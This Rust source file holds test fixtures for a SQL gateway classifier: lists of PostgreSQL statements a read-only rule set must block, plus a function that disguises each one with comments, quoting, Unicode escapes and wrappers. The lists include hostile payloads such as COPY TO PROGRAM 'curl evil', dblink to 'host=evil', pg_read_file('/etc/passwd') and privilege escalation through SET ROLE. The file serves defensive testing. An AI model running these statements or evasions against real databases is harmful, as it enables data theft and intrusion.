//! What a rule set must stop: statements by class, and the dresses they come in. Tests of the
//! classifier and of the gateway try all of it.

/// Statements that some rules must stop.
pub struct Class {
    pub name: &'static str,
    /// The `statements` of a gate rule, as a flow list's inside.
    pub rules: &'static str,
    pub texts: &'static [&'static str],
}

/// May read cards and orders and the server's catalog, and nothing else.
pub const READ_ONLY: &str = "{id: read, action: allow, effects: [read], \
     tables: [public.cards, public.orders, public.v_orders, public.v_pan, public.v_bin, \
              public.v_nested, public.v_file, public.v_file2], maxRows: 500}, \
     {id: catalog, action: allow, effects: [read], tables: [pg_catalog.*, information_schema.*]}";

/// May read and change whatever there is, but not every row of it at once.
pub const WRITERS: &str = "{id: w, action: allow, effects: [read, write]}";

pub const CLASSES: &[Class] = &[
    Class { name: "writes", rules: READ_ONLY, texts: WRITES },
    Class { name: "changes without a condition", rules: WRITERS, texts: NO_WHERE },
    Class { name: "definitions", rules: READ_ONLY, texts: DEFINITIONS },
    Class { name: "extensions, languages, other servers", rules: READ_ONLY, texts: EXTENSIONS },
    Class { name: "rights and the server", rules: READ_ONLY, texts: RIGHTS },
    Class { name: "settings and other sessions", rules: READ_ONLY, texts: SESSION },
    Class { name: "functions with side effects", rules: READ_ONLY, texts: REACHING },
    Class { name: "`COPY` and dumps", rules: READ_ONLY, texts: BULK },
    Class { name: "`DO`", rules: READ_ONLY, texts: DO },
    Class {
        name: "`EXECUTE` and `FETCH` of what nobody allowed",
        rules: READ_ONLY,
        texts: DYNAMIC,
    },
    Class { name: "tables that no rule names", rules: READ_ONLY, texts: OTHERS },
    Class { name: "texts that cannot be read", rules: READ_ONLY, texts: UNREADABLE },
    Class { name: "expressions over tagged columns", rules: READ_ONLY, texts: TAGGED },
];

/// Data changed or locked.
const WRITES: &[&str] = &[
    "DELETE FROM orders WHERE id = 1",
    "delete from orders",
    "/* harmless */ DeLeTe /* x */ FROM --\n orders",
    "UPDATE orders SET note = 'x' WHERE id = 1",
    "UPDATE ONLY public.orders * SET note = 'x'",
    "INSERT INTO orders VALUES (1)",
    "INSERT INTO orders DEFAULT VALUES",
    "TRUNCATE orders",
    "TRUNCATE TABLE ONLY public.orders, cards CASCADE",
    "MERGE INTO orders o USING cards c ON o.card_id = c.id WHEN MATCHED THEN DELETE",
    "WITH a AS (SELECT 1) DELETE FROM orders",
    "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d",
    "WITH a AS (WITH b AS (UPDATE orders SET note = '' RETURNING id) SELECT * FROM b) TABLE a",
    "SELECT * FROM orders FOR UPDATE",
    "SELECT * FROM orders o FOR NO KEY UPDATE OF o",
    "SELECT * FROM (SELECT * FROM orders) s FOR SHARE",
    "EXPLAIN ANALYZE DELETE FROM orders",
    "EXPLAIN (ANALYZE, VERBOSE) UPDATE orders SET note = 'x'",
    "explain (analyze false) delete from orders",
    "PREPARE p AS DELETE FROM orders",
    "SELECT 1; DELETE FROM orders",
    "BEGIN; DELETE FROM orders; COMMIT",
    "DECLARE c CURSOR FOR WITH d AS (DELETE FROM orders RETURNING 1) SELECT * FROM d",
    "U&\"d\\0065lete\" FROM orders",
    "DELETE FROM U&\"\\006Frders\"",
    "DELETE FROM \"orders\" WHERE true",
    "COPY orders FROM STDIN",
    "COPY orders (id, note) FROM STDIN WITH (FORMAT csv)",
    "LOCK TABLE orders IN ACCESS EXCLUSIVE MODE",
    "SELECT * INTO stolen FROM orders",
    "SELECT * INTO TEMP stolen FROM orders",
    "CREATE TABLE stolen AS SELECT * FROM orders",
    "CREATE TEMP TABLE stolen AS TABLE orders",
    "CREATE MATERIALIZED VIEW m AS SELECT * FROM orders",
    "SELECT nextval('orders_id_seq')",
    "SELECT setval('public.orders_id_seq', 1)",
    "SELECT pg_catalog.nextval('orders_id_seq'::regclass)",
    "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",
    "UPDATE pg_catalog.pg_class SET relname = 'x' WHERE oid = 1",
    "INSERT INTO orders SELECT 1 ON CONFLICT (id) DO UPDATE SET note = 'x'",
    "VALUES (1); TRUNCATE orders",
];

/// Changes of every row, for who may change rows.
pub const NO_WHERE: &[&str] = &[
    "DELETE FROM orders",
    "DELETE FROM orders WHERE true",
    "DELETE FROM orders WHERE 1 = 1",
    "DELETE FROM orders WHERE 'a' = 'a'",
    "DELETE FROM orders WHERE id = id",
    "DELETE FROM orders o WHERE o.id = id",
    "DELETE FROM orders WHERE NOT false",
    "DELETE FROM orders WHERE id = 5 OR true",
    "DELETE FROM orders WHERE id = 5 OR 1 = 1",
    "DELETE FROM orders WHERE id IS NULL OR id IS NOT NULL",
    "DELETE FROM orders WHERE id = 1 OR id <> 1",
    "DELETE FROM orders WHERE id < 5 OR id >= 5",
    "DELETE FROM orders WHERE note LIKE '%'",
    "DELETE FROM orders WHERE EXISTS (SELECT 1)",
    "DELETE FROM orders WHERE $1",
    "DELETE FROM orders WHERE now() > '2000-01-01'",
    "DELETE FROM orders WHERE (SELECT true)",
    "DELETE FROM orders WHERE id IN (id)",
    "UPDATE orders SET note = ''",
    "UPDATE orders SET note = '' WHERE coalesce(true, false)",
    "TRUNCATE orders",
    "MERGE INTO orders o USING cards c ON true WHEN MATCHED THEN UPDATE SET note = ''",
    "WITH d AS (DELETE FROM orders RETURNING id) SELECT 1 FROM orders WHERE id = 1",
    "EXPLAIN DELETE FROM orders",
];

/// What there is.
const DEFINITIONS: &[&str] = &[
    "DROP TABLE orders",
    "ALTER TABLE orders ADD COLUMN x int",
    "ALTER TABLE orders DISABLE ROW LEVEL SECURITY",
    "CREATE TABLE x (id int)",
    "CREATE TEMP TABLE cards (id int)",
    "CREATE VIEW v AS SELECT pan FROM cards",
    "CREATE INDEX ON orders (lo_import('/etc/passwd'))",
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ DELETE FROM orders; SELECT 1 $$",
    "CREATE OR REPLACE PROCEDURE f() LANGUAGE plpgsql AS 'begin delete from orders; end'",
    "CREATE TRIGGER t BEFORE UPDATE ON orders EXECUTE FUNCTION f()",
    "CREATE RULE r AS ON SELECT TO orders DO INSTEAD DELETE FROM cards",
    "CREATE CAST (text AS int) WITH FUNCTION f(text)",
    "CREATE OPERATOR + (FUNCTION = f, LEFTARG = int, RIGHTARG = text)",
    "CREATE AGGREGATE a (int) (SFUNC = f, STYPE = int)",
    "CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION f()",
    "CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p",
    "CREATE PUBLICATION p FOR TABLE cards",
    "VACUUM FULL orders",
    "ANALYZE cards",
    "REINDEX DATABASE shop",
    "CLUSTER orders USING i",
    "REFRESH MATERIALIZED VIEW m",
    "COMMENT ON TABLE orders IS 'x'",
    "SECURITY LABEL ON TABLE orders IS 'x'",
    "CREATE SCHEMA s CREATE TABLE t (id int)",
    "CREATE STATISTICS s ON pan, cvv FROM cards",
    "CREATE DOMAIN d AS int CHECK (f(VALUE))",
];

/// Code of others.
const EXTENSIONS: &[&str] = &[
    "CREATE EXTENSION dblink",
    "CREATE EXTENSION IF NOT EXISTS adminpack SCHEMA public",
    "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw",
    "IMPORT FOREIGN SCHEMA a FROM SERVER s INTO b",
    "LOAD 'auto_explain'",
    "ALTER EXTENSION plpgsql UPDATE",
    "DROP EXTENSION plpgsql",
    "CREATE LANGUAGE plpython3u",
    "CREATE FOREIGN DATA WRAPPER f HANDLER g",
    "CREATE USER MAPPING FOR billing_ro SERVER s OPTIONS (password 'x')",
    "CREATE FOREIGN TABLE t (id int) SERVER s",
    "CREATE ACCESS METHOD m TYPE TABLE HANDLER g",
];

/// Who may do what.
const RIGHTS: &[&str] = &[
    "GRANT ALL ON cards TO PUBLIC",
    "REVOKE SELECT ON cards FROM bob",
    "GRANT admin TO billing_ro",
    "CREATE ROLE r SUPERUSER",
    "ALTER ROLE billing_ro PASSWORD 'x'",
    "DROP ROLE r",
    "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC",
    "ALTER TABLE orders OWNER TO bob",
    "REASSIGN OWNED BY a TO b",
    "DROP OWNED BY a",
    "ALTER SYSTEM SET archive_command = 'curl evil'",
    "CHECKPOINT",
    "CREATE DATABASE d",
    "DROP DATABASE shop",
    "CREATE TABLESPACE t LOCATION '/tmp'",
    "CREATE POLICY p ON cards USING (true)",
    "ALTER DATABASE shop SET search_path = evil",
];

/// What later statements mean.
const SESSION: &[&str] = &[
    "SET standard_conforming_strings = off",
    "SET SESSION standard_conforming_strings TO 'off'",
    "set client_encoding to 'SJIS'",
    "SET NAMES 'GBK'",
    "SET search_path = evil, public",
    "SET LOCAL search_path TO evil",
    "SET ROLE postgres",
    "SET SESSION AUTHORIZATION postgres",
    "RESET ROLE",
    "SET row_security = off",
    "SET session_replication_role = replica",
    "SET SCHEMA 'evil'",
    "SET \"search_path\" = evil",
    "SET app.tenant = '7'",
    "SELECT set_config('search_path', 'evil', false)",
    "SELECT set_config('se' || 'arch_path', 'evil', false)",
    "SELECT pg_catalog.set_config('role', 'postgres', true)",
    "SELECT 1 FROM orders WHERE set_config('row_security', 'off', true) = 'off'",
    "LISTEN secrets",
    "NOTIFY evil, 'pan'",
    "SELECT pg_notify('evil', note) FROM orders",
    "SELECT pg_advisory_lock(1)",
    "PREPARE TRANSACTION 'x'",
    "COMMIT PREPARED 'x'",
];

/// Functions that do more than give a value.
const REACHING: &[&str] = &[
    "SELECT lo_export(1, '/tmp/x')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT PG_CATALOG.\"pg_read_file\"('/etc/passwd')",
    "SELECT U&\"pg_read\\005Ffile\"('/etc/passwd')",
    "SELECT U&\"pg!005fread!005ffile\" UESCAPE '!' ('/etc/passwd')",
    "SELECT pg_read_binary_file('/etc/passwd')",
    "SELECT pg_ls_dir('/')",
    "SELECT * FROM pg_ls_waldir()",
    "SELECT * FROM ROWS FROM (pg_ls_dir('/'), generate_series(1, 2)) AS x",
    "SELECT pg_stat_file('/etc/passwd')",
    "SELECT pg_terminate_backend(1)",
    "SELECT pg_cancel_backend(pid) FROM pg_locks",
    "SELECT pg_reload_conf()",
    "SELECT pg_sleep(1000)",
    "SELECT 1 WHERE pg_sleep(10) IS NULL",
    "SELECT 1 ORDER BY pg_sleep(10)::text",
    "SELECT 1 LIMIT (SELECT 1 FROM pg_sleep(10))",
    "SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM orders",
    "SELECT sum(1) OVER (ORDER BY pg_sleep(1)::text) FROM orders",
    "SELECT CASE WHEN true THEN pg_sleep(1) END",
    "SELECT COALESCE(NULL, pg_sleep(1)::text)",
    "SELECT ARRAY[pg_sleep(1)::text]",
    "SELECT (ROW(pg_sleep(1))).f1",
    "SELECT a[pg_backend_pid() + lo_creat(1)] FROM (SELECT ARRAY[1] a) s",
    "SELECT * FROM orders TABLESAMPLE bernoulli(lo_creat(1))",
    "SELECT * FROM orders TABLESAMPLE evil_sampler(1)",
    "SELECT * FROM orders JOIN cards ON lo_unlink(1) = 1",
    "SELECT * FROM XMLTABLE('/a' PASSING query_to_xml('select 1', true, true, '') COLUMNS a int)",
    "SELECT JSON_VALUE(lo_get(1)::text, '$')",
    "SELECT xmlelement(name a, lo_get(1))",
    "VALUES (lo_unlink(1))",
    "SELECT dblink('host=evil', 'select 1')",
    "SELECT * FROM dblink('host=evil', 'select 1') AS t (a int)",
    "SELECT public.dblink_exec('x', 'drop table t')",
    "SELECT query_to_xml('delete from orders', true, true, '')",
    "SELECT database_to_xml(true, true, '')",
    "SELECT table_to_xml('cards', true, true, '')",
    "SELECT cursor_to_xml('c', 1, true, true, '')",
    "SELECT ts_stat('select 1')",
    "SELECT pg_logical_emit_message(true, 'a', 'b')",
    "SELECT pg_create_logical_replication_slot('s', 'pgoutput')",
    "SELECT pg_switch_wal()",
    "SELECT pg_stat_reset()",
    "SELECT pg_file_write('/tmp/x', 'y', false)",
    "SELECT my_own_function()",
    "SELECT evil.lower('X')",
    "CALL do_it()",
    "SELECT 1 OPERATOR(evil.+) 1",
    "SELECT 1 <<<>>> 1",
    "SELECT 1 = ANY (SELECT lo_creat(1))",
    "SELECT * FROM v_file",
    "SELECT * FROM v_file2",
    "SELECT 1 FROM orders WHERE EXISTS (SELECT 1 FROM v_file2)",
    "EXPLAIN SELECT pg_read_file('/etc/passwd')",
    "PREPARE p AS SELECT pg_read_file($1)",
    "DECLARE c CURSOR FOR SELECT pg_ls_dir('/')",
    "SELECT pg_stat_get_activity(NULL)",
];

/// Whole tables, files and programs.
const BULK: &[&str] = &[
    "COPY orders TO STDOUT",
    "copy public . orders to stdout",
    "COPY (SELECT * FROM orders) TO STDOUT",
    "COPY (VALUES (1)) TO STDOUT",
    "COPY orders TO '/tmp/x'",
    "COPY orders TO PROGRAM 'curl evil'",
    "COPY orders FROM PROGRAM 'id'",
    "COPY (DELETE FROM orders RETURNING *) TO STDOUT",
    "COPY (SELECT pan FROM cards) TO STDOUT",
    "COPY public.orders (id, note) TO stdout;",
    "COPY orders TO STDOUT WITH (FORMAT binary)",
    "COPY orders TO STDOUT (FORMAT csv, DELIMITER E'\\x01', FORCE_QUOTE *)",
    "COPY (TABLE orders) TO STDOUT",
    "COPY (SELECT 1) TO PROGRAM 'curl evil'",
    "COPY orders FROM '/etc/passwd'",
    "LOCK TABLE public.orders IN SHARE MODE",
    "SELECT pg_export_snapshot()",
    "SELECT lo_get(loid) FROM pg_largeobject_metadata m(loid)",
    "SELECT data FROM pg_largeobject",
    "SET row_security = off",
];

/// Code without a name.
const DO: &[&str] = &[
    "DO $$ BEGIN DELETE FROM orders; END $$",
    "DO LANGUAGE plpgsql 'begin execute ''drop table orders''; end'",
    "do $a$ begin perform 1; end $a$",
    "DO $$ BEGIN NULL; END $$",
    "DO E'BEGIN DELETE\\x20FROM orders; END'",
    "DO U&'BEGIN PERFORM pg_sleep(1)\\003b END'",
    "DO $$ DECLARE n text := 'del' || 'ete from orders'; BEGIN EXECUTE n; END $$",
    "DO LANGUAGE sql 'SELECT 1'",
];

/// What is said elsewhere.
const DYNAMIC: &[&str] = &[
    "EXECUTE nobody_prepared_it",
    "FETCH ALL FROM nobody_declared_it",
    "MOVE 1 IN nobody_declared_it",
    "CREATE TABLE x AS EXECUTE nobody",
    "EXECUTE nobody(1, 'x')",
    "EXPLAIN ANALYZE EXECUTE nobody",
    "PREPARE p AS DELETE FROM orders; EXECUTE p",
    "PREPARE p(int) AS SELECT pg_sleep($1); EXECUTE p(9)",
    "PREPARE p AS SELECT 1; DEALLOCATE p; EXECUTE p",
    "FETCH 1 FROM \"nobody\"",
    "SELECT * FROM cursor_to_xml('nobody', 1, true, true, '')",
];

/// Tables that no rule names, in every place.
const OTHERS: &[&str] = &[
    "SELECT * FROM secret.keys",
    "SELECT * FROM keys",
    "SELECT (SELECT value FROM secret.keys LIMIT 1)",
    "SELECT 1 FROM orders WHERE id IN (SELECT id FROM secret.keys)",
    "WITH cards AS (SELECT * FROM secret.keys) SELECT * FROM cards",
    "TABLE secret.keys",
    "SELECT * FROM ONLY secret.keys",
    "SELECT * FROM orders, LATERAL (SELECT * FROM secret.keys k WHERE k.id = orders.id) s",
    "SELECT * FROM orders UNION ALL SELECT 1, 1, 1, value FROM secret.keys",
    "SELECT * FROM pg_stats",
    "SELECT * FROM pg_catalog.pg_authid",
    "SELECT query FROM pg_stat_activity",
    "WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT * FROM secret.keys) SELECT * FROM a",
];

/// What the grammar does not know.
const UNREADABLE: &[&str] = &[
    "DELETE FORM orders",
    "DELETE FROM orders WHERE note = 'unterminated",
    "\\d",
    "SELECT $a$ unterminated",
    "SELECT /* unterminated",
    "SELECT U&'\\zzzz'",
    "SELECT (1",
    "\u{feff}SELECT 1",
    "SELECT\u{a0}1 FROM\u{a0}orders",
    "\u{ff33}\u{ff25}\u{ff2c}\u{ff25}\u{ff23}\u{ff34} 1",
    "BASE_BACKUP",
    "START_REPLICATION 0/0",
];

/// Values of tagged columns by other ways than the column itself.
const TAGGED: &[&str] = &[
    "SELECT substr(pan, 1, 8) FROM cards",
    "SELECT reverse(pan) FROM cards",
    "SELECT pan || '' FROM cards",
    "SELECT pan::text FROM cards",
    "SELECT CAST(pan AS numeric) FROM cards",
    "SELECT (pan) COLLATE \"C\" FROM cards",
    "SELECT encode(pan::bytea, 'hex') FROM cards",
    "SELECT max(pan) FROM cards",
    "SELECT string_agg(pan, ',') FROM cards",
    "SELECT count(*) FROM cards WHERE pan LIKE '4111%'",
    "SELECT id FROM cards WHERE cards.pan > '5'",
    "SELECT id FROM cards ORDER BY pan",
    "SELECT pan FROM cards ORDER BY 1",
    "SELECT pan AS x FROM cards ORDER BY x",
    "SELECT 1 FROM cards GROUP BY pan",
    "SELECT DISTINCT ON (pan) id FROM cards",
    "SELECT id FROM cards c WHERE 1 / (c.cvv::int - 123) > 0",
    "SELECT row_to_json(c) FROM cards c",
    "SELECT c.row_to_json FROM cards c",
    "SELECT to_jsonb(cards.*) FROM cards",
    "SELECT c FROM cards c",
    "SELECT cards FROM cards",
    "SELECT (c).pan || '' FROM cards c",
    "SELECT ROW(c.*) FROM cards c",
    "SELECT c::text FROM cards c",
    "SELECT json_agg(c) FROM cards c",
    "SELECT array_agg(c.pan) FROM cards c",
    "SELECT substr(x, 1, 8) FROM (SELECT pan AS x FROM cards) s",
    "SELECT substr(s.x, 1, 8) FROM (SELECT * FROM (SELECT pan AS x FROM cards) a) s",
    "WITH w AS (SELECT pan AS x FROM cards) SELECT left(x, 8) FROM w",
    "WITH w(x) AS (SELECT pan FROM cards) SELECT left(x, 8) FROM w",
    "WITH w(a, b, c) AS (SELECT * FROM cards) SELECT left(c, 8) FROM w",
    "SELECT left(c, 8) FROM cards AS t (a, b, c)",
    "SELECT left(b, 8) FROM (cards JOIN orders ON true) AS j (i, h, b)",
    "SELECT pan FROM cards UNION SELECT 'x'",
    "SELECT 'x' UNION ALL SELECT pan FROM cards",
    "SELECT (SELECT pan FROM cards LIMIT 1)",
    "SELECT ARRAY(SELECT pan FROM cards)",
    "SELECT id FROM orders WHERE note IN (SELECT pan FROM cards)",
    "SELECT id FROM orders o WHERE EXISTS (SELECT 1 FROM cards c WHERE c.pan = o.note)",
    "SELECT 1 FROM cards JOIN orders ON note = pan",
    "SELECT 1 FROM cards a JOIN cards b USING (pan)",
    "SELECT 1 FROM cards NATURAL JOIN (SELECT '4111111111111111' AS pan) p",
    "SELECT left(n, 8) FROM v_pan",
    "SELECT left(x, 8) FROM v_nested",
    "SELECT * FROM v_bin",
    "SELECT row_to_json(v) FROM v_nested v",
    "SELECT s.x FROM cards, LATERAL (SELECT left(pan, 6) AS x) s",
    "SELECT (SELECT left(pan, 6)) FROM cards",
    "SELECT x FROM cards, unnest(ARRAY[pan]) AS x",
    "SELECT format('%s', pan) FROM cards",
    "SELECT CASE WHEN pan = '4111111111111111' THEN 1 END FROM cards",
    "SELECT pan IS NULL FROM cards",
    "SELECT row_number() OVER (PARTITION BY pan) FROM cards",
    "SELECT (SELECT s.x FROM (SELECT 1 AS pan) d, (SELECT left(pan, 3) AS x) s) FROM cards",
    "SELECT xmlforest(pan) FROM cards",
    "SELECT JSON_OBJECT('a' VALUE pan) FROM cards",
    "WITH RECURSIVE r AS (SELECT pan FROM cards UNION SELECT pan || 'x' FROM r) SELECT * FROM r",
    "SELECT width_bucket(cvv::int, 0, 999, 10) FROM cards",
    "EXPLAIN SELECT * FROM cards WHERE pan = '4111111111111111'",
    "PREPARE p AS SELECT left(pan, 6) FROM cards",
    "SELECT U&\"p\\0061n\" || '' FROM cards",
    "SELECT \"pan\" || '' FROM \"public\".\"cards\"",
];

/// Names that dresses spell in other ways.
const NAMES: &[&str] = &["orders", "cards", "pan", "keys", "secret", "note", "public"];

/// The same statement in other words, spaces and letters, behind and inside of others: what it
/// would do stays.
pub fn dresses(text: &str) -> Vec<(&'static str, String)> {
    let mut dresses = vec![
        ("as it is", text.to_owned()),
        ("in comments", format!("/* a /* b */ c */ {text} -- end")),
        ("behind a long comment", format!("/*{}*/{text}", " --'".repeat(2_000))),
        ("behind another", format!("SELECT 1;\n{text};")),
        ("in a transaction", format!("BEGIN; {text}; COMMIT")),
        ("with other white space", format!("\t{}\n\u{c};", text.replace(' ', "\n \t"))),
        ("behind a dollar quote", format!("SELECT $a$ ' /* $a$; {text}")),
        ("behind a dollar quote in another", format!("SELECT $a$ $b$ $a$, $b$ -- $b$; {text}")),
        ("behind a dollar quote with a Unicode tag", format!("SELECT $é1$ $é$ $é1$; {text}")),
        ("behind a backslash", format!("SELECT 'a\\'; {text}; --'")),
        ("behind an escaped quote", format!("SELECT E'\\'; --', 'x'; {text}")),
        ("behind a Unicode string", format!("SELECT U&'\\0027; --', 'x'; {text}")),
        ("in DO", format!("DO $outer$ BEGIN {text}; END $outer$")),
        (
            "in EXECUTE in DO",
            format!("DO $outer$ BEGIN EXECUTE $inner$ {text} $inner$; END $outer$"),
        ),
    ];
    if !text.contains(['"', '\'', '$', '\\']) {
        dresses.extend([
            ("in upper case", text.to_uppercase()),
            ("in lower case", text.to_lowercase()),
            ("in mixed case", mixed(text)),
            ("with comments for spaces", text.replace(' ', "/**/ ")),
            ("with lines of comments", text.replace(' ', " --'\"$$/*\n")),
            ("with quoted names", named(text, |name| format!("\"{name}\""))),
            ("with Unicode names", named(text, escaped)),
            (
                "with Unicode names and their own escape",
                named(text, |name| {
                    let (first, rest) = name.split_at(1);
                    let code = u32::from(first.as_bytes()[0]);
                    format!("U&\"!+{code:06x}{rest}\" UESCAPE '!'")
                }),
            ),
        ]);
    }
    let query = ["SELECT", "WITH", "VALUES", "TABLE", "INSERT", "UPDATE", "DELETE", "MERGE"];
    if query.iter().any(|word| text.starts_with(word)) && !text.contains(';') {
        dresses.extend([
            ("explained", format!("EXPLAIN ANALYZE {text}")),
            ("explained with options", format!("EXPLAIN (FORMAT json, ANALYZE true) {text}")),
            ("prepared", format!("PREPARE q AS {text}")),
            ("prepared and run", format!("PREPARE q AS {text}; EXECUTE q; DEALLOCATE q")),
            ("as a table", format!("CREATE TABLE x AS {text}")),
            ("as a cursor", format!("DECLARE dressed CURSOR FOR {text}")),
            ("in COPY", format!("COPY ({text}) TO STDOUT")),
            ("in a CTE", format!("WITH dressed AS ({text}) SELECT 1")),
            ("in a CTE that is read", format!("WITH dressed AS ({text}) SELECT * FROM dressed")),
            ("in a CTE in a CTE", format!("WITH a AS (WITH b AS ({text}) SELECT 1) TABLE a")),
            ("in a subquery", format!("SELECT * FROM ({text}) AS dressed")),
            ("behind a CTE", format!("WITH unused AS (SELECT 1) {text}")),
        ]);
    }
    dresses
}

fn mixed(text: &str) -> String {
    let letter = |(index, letter): (usize, char)| match index % 2 {
        0 => letter.to_ascii_uppercase(),
        _ => letter.to_ascii_lowercase(),
    };
    text.chars().enumerate().map(letter).collect()
}

/// Spells the names anew, wherever they stand as words.
fn named(text: &str, spell: impl Fn(&str) -> String) -> String {
    let mut out = String::new();
    for word in text.split_inclusive(|letter: char| !letter.is_alphanumeric() && letter != '_') {
        let name = word.trim_end_matches(|letter: char| !letter.is_alphanumeric() && letter != '_');
        if NAMES.contains(&name) {
            out.push_str(&spell(name));
            out.push_str(&word[name.len()..]);
        } else {
            out.push_str(word);
        }
    }
    out
}

/// `"orders"` as `U&"\006frders"`.
fn escaped(name: &str) -> String {
    let (first, rest) = name.split_at(1);
    format!("U&\"\\{:04x}{rest}\"", first.as_bytes()[0])
}
